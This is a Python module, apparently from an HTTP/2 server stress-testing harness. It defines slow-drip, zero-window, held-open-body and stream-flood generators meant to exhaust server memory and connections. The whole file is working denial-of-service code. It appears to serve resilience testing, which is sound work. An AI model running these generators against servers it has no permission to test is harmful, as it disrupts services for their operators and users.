"""HTTP/2 connections that hold on to what they got: streams, memory, answers that nobody takes."""

import itertools

from harness import frames
from hostile.engine import ANSWERS
from hostile.http2_floods import OPEN_STREAMS, misses, open_streams
from hostile.templates import Template, data_frame, headers_frame, opening, post_heads

IN_FLIGHT = 100
LARGE_BODY = 2 * 1024 * 1024
DRIP_S = 0.2


def bodies_without_end(target, _):
    """A hundred requests in flight, none of which is ever whole; each gets a byte now and then."""
    yield opening(post_heads(target)) + open_streams(target)
    while True:
        yield b"".join(data_frame(b"x", stream=stream) for stream in OPEN_STREAMS)
        yield DRIP_S


def large_bodies(target, _):
    """A hundred bodies of 2 MiB side by side, by nobody in particular, the last byte of each held back."""
    yield opening(post_heads(target)) + open_streams(target)
    piece = b"x" * 16384
    for _ in range(LARGE_BODY // len(piece) - 1):
        yield b"".join(data_frame(piece, stream=stream) for stream in OPEN_STREAMS)


class EndedStreams:
    """Counts the streams that the server ended, in what comes in."""

    def __init__(self):
        self.rest = b""

    def count(self, data):
        data, start, ended = self.rest + data, 0, 0
        while len(data) - start >= 9:
            end = start + 9 + int.from_bytes(data[start : start + 3], "big")
            if end > len(data):
                break
            kind, flags = data[start + 3], data[start + 4]
            is_end = kind in (frames.DATA, frames.HEADERS) and flags & frames.END_STREAM
            ended += bool(is_end or kind == frames.RST_STREAM)
            start = end
        self.rest = data[start:]
        return ended


def misses_in_flight(target, peer):
    """A hundred new tokens asked about at any time, by somebody with good credentials. None is good."""
    heads = post_heads(target)
    requests = Template(misses(heads.later, target)).requests()
    ended = EndedStreams()
    yield opening(heads)
    room = IN_FLIGHT - 1  # the first request is in flight too
    while True:
        if room > 0:
            yield b"".join(itertools.islice(requests, room))
        yield ANSWERS
        room = ended.count(peer.take_answers())


# Answers that nobody takes


def zero_window(target, _):
    """A hundred answers wait for a window that is never opened."""
    yield from ask_without_window(target)


def window_drip(target, _):
    """The same, and they are given a byte at a time."""
    yield from ask_without_window(target)
    while True:
        yield DRIP_S
        yield b"".join(frames.window_update(1, stream) for stream in OPEN_STREAMS)


def zero_window_pings(target, _):
    """The same, on a connection that has something to say."""
    yield from ask_without_window(target)
    while True:
        yield DRIP_S
        yield frames.ping()


def ask_without_window(target):
    heads = post_heads(target)
    yield opening(heads, {frames.INITIAL_WINDOW_SIZE: 0})
    yield b"".join(headers_frame(heads.later, frames.END_STREAM, stream) for stream in OPEN_STREAMS)


# Drips


def drip(data, every_s=DRIP_S):
    """A byte at a time."""
    for i in range(len(data)):
        yield data[i : i + 1]
        yield every_s


def preface_drip(target, _):
    yield from drip(opening(post_heads(target)))


def body_drip(target, _):
    heads = post_heads(target)
    yield opening(heads) + headers_frame(heads.later, stream=3)
    while True:
        yield data_frame(b"x", stream=3)
        yield DRIP_S


def ping_drip(target, _):
    """Has asked for nothing, and stays."""
    yield frames.PREFACE + frames.settings()
    while True:
        yield frames.ping()
        yield DRIP_S


def continuation_drip(target, _):
    heads = post_heads(target)
    yield opening(heads) + frames.frame(frames.HEADERS, 0, 3, heads.later)
    while True:
        yield frames.frame(frames.CONTINUATION, 0, 3, b"\x10\x01x\x01y")
        yield DRIP_S


def headers_drip(target, _):
    """One HEADERS frame, a byte at a time."""
    heads = post_heads(target)
    yield opening(heads)
    yield from drip(headers_frame(heads.later + b"\x10\x01x\x01y" * 200, frames.END_STREAM, 3))
